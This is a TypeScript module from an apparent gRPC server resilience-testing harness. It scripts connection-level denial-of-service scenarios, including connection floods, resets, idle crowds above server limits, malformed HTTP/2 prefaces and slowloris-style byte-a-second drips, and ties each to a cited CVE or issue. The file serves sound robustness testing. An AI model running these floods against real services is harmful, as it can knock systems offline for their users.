/** Connections that come and go, say nothing, or take their time. */
import type { Attack, Fault } from '../fault.js';
import { H2Connection } from '../wire/connection.js';
import { data, FLAG, headers, PREFACE, settings } from '../wire/frames.js';
import { callBlock } from '../wire/hpack.js';
import { batchOf, DEDUPE, EMPTY_MESSAGE, GET_LISTS, HEALTH_CHECK } from './messages.js';

/** Opens `count` connections at once, 20 a tick, and keeps them. */
const crowd = (count: number, each: (attack: Attack) => void) => async (attack: Attack) => {
  let left = count;
  await attack.pace(2000, () => {
    if (left-- <= 0) return false;
    each(attack);
    return true;
  });
  await attack.rest();
};

/** On each of 200 connections sends `first` at once, and then a byte of `slow` a second. */
const drip =
  (first: Buffer, slow: Buffer) =>
  async (attack: Attack): Promise<void> => {
    const open = () => {
      const socket = attack.connect(attack.target.grpcPort).resume();
      socket.write(first);
      return { socket, sent: 0 };
    };
    const slowly = Array.from({ length: 200 }, open);
    let turn = 0;
    await attack.pace(200, () => {
      const index = turn++ % 200;
      const current = slowly[index];
      const one = current === undefined || current.socket.destroyed ? open() : current;
      slowly[index] = one;
      one.socket.write(slow.subarray(one.sent, ++one.sent));
    });
  };

export const CONNECTIONS: readonly Fault[] = [
  {
    name: 'connect-and-leave',
    report: 'dask/distributed #6355, kubernetes/kubernetes #115143',
    how: '200 connections a second that are closed as soon as they are open',
    play: (attack) =>
      attack.pace(200, () => {
        attack.connect(attack.target.grpcPort).resume().end();
      }),
  },
  {
    name: 'connect-and-reset',
    report: 'kubernetes/kubernetes #115143',
    how: '200 connections a second that are reset as soon as they are open',
    play: (attack) =>
      attack.pace(200, () => {
        const socket = attack.connect(attack.target.grpcPort);
        socket.once('connect', () => attack.drop(socket, { reset: true }));
      }),
  },
  {
    name: 'health-on-new-connections',
    report: 'grpc/grpc-node #2975, #2068, grpc-ecosystem/grpc-health-probe #34',
    how: '100 connections a second, each with a Health/Check, then closed without GOAWAY',
    play: (attack) =>
      attack.pace(100, () => {
        const connection = new H2Connection(attack);
        const stream = connection.open(callBlock(HEALTH_CHECK));
        connection.send(data(stream, EMPTY_MESSAGE, FLAG.endStream));
        connection.socket.once('data', () => connection.socket.end());
      }),
  },
  {
    name: 'silent-connections',
    report: 'hiero-ledger/hiero-block-node #3168',
    how: '200 connections that never send a byte',
    play: crowd(200, (attack) => void attack.connect(attack.target.grpcPort).resume()),
  },
  {
    name: 'silent-crowd',
    report: 'CVE-2023-4785',
    how: '1,100 connections, more than the server takes, that never send a byte',
    play: crowd(1100, (attack) => void attack.connect(attack.target.grpcPort).resume()),
  },
  {
    name: 'broken-crowd',
    report: 'CVE-2021-22883',
    how: '1,050 connections that break HTTP/2 in 0.5 s and leave',
    play: crowd(1050, (attack) => {
      const socket = attack.connect(attack.target.grpcPort).resume();
      socket.end(Buffer.concat([PREFACE, Buffer.alloc(40, 0xff)]));
    }),
  },
  {
    name: 'idle-crowd',
    report: 'hiero-ledger/hiero-block-node #3168',
    how: '1,100 connections that have made a call and stay without another',
    play: crowd(1100, (attack) => {
      const connection = new H2Connection(attack);
      const stream = connection.open(callBlock(GET_LISTS));
      connection.send(data(stream, EMPTY_MESSAGE, FLAG.endStream));
    }),
  },
  {
    name: 'slow-preface',
    report: 'CVE-2018-12122',
    how: '200 connections that send a byte of their preface a second',
    play: drip(Buffer.alloc(0), PREFACE),
  },
  {
    name: 'slow-headers',
    report: 'CVE-2018-12122',
    how: '200 connections that send the HEADERS of their first call a byte a second',
    play: drip(Buffer.concat([PREFACE, settings()]), headers(1, callBlock(DEDUPE))),
  },
  {
    name: 'slow-message',
    report: 'CVE-2020-8251',
    how: '200 connections that send the first message of their call a byte a second',
    play: drip(
      Buffer.concat([PREFACE, settings(), headers(1, callBlock(DEDUPE))]),
      data(1, batchOf(1000)),
    ),
  },
  {
    name: 'half-closed',
    report: 'grpc-ecosystem/grpc-health-probe #34',
    how: '100 connections a second that close their side with a call open, and wait',
    play: (attack) =>
      attack.pace(100, () => {
        const socket = attack.connect(attack.target.grpcPort, { halfOpen: true }).resume();
        socket.end(Buffer.concat([PREFACE, settings()]));
      }),
  },
  {
    name: 'gone-without-a-word',
    report: 'grpc/grpc-dart #147',
    how: '50 connections a second with an open stream, dropped without ending it',
    play: (attack) =>
      attack.pace(50, () => {
        const connection = new H2Connection(attack);
        connection.open(callBlock(DEDUPE));
        setTimeout(() => attack.drop(connection.socket), 50);
      }),
  },
];
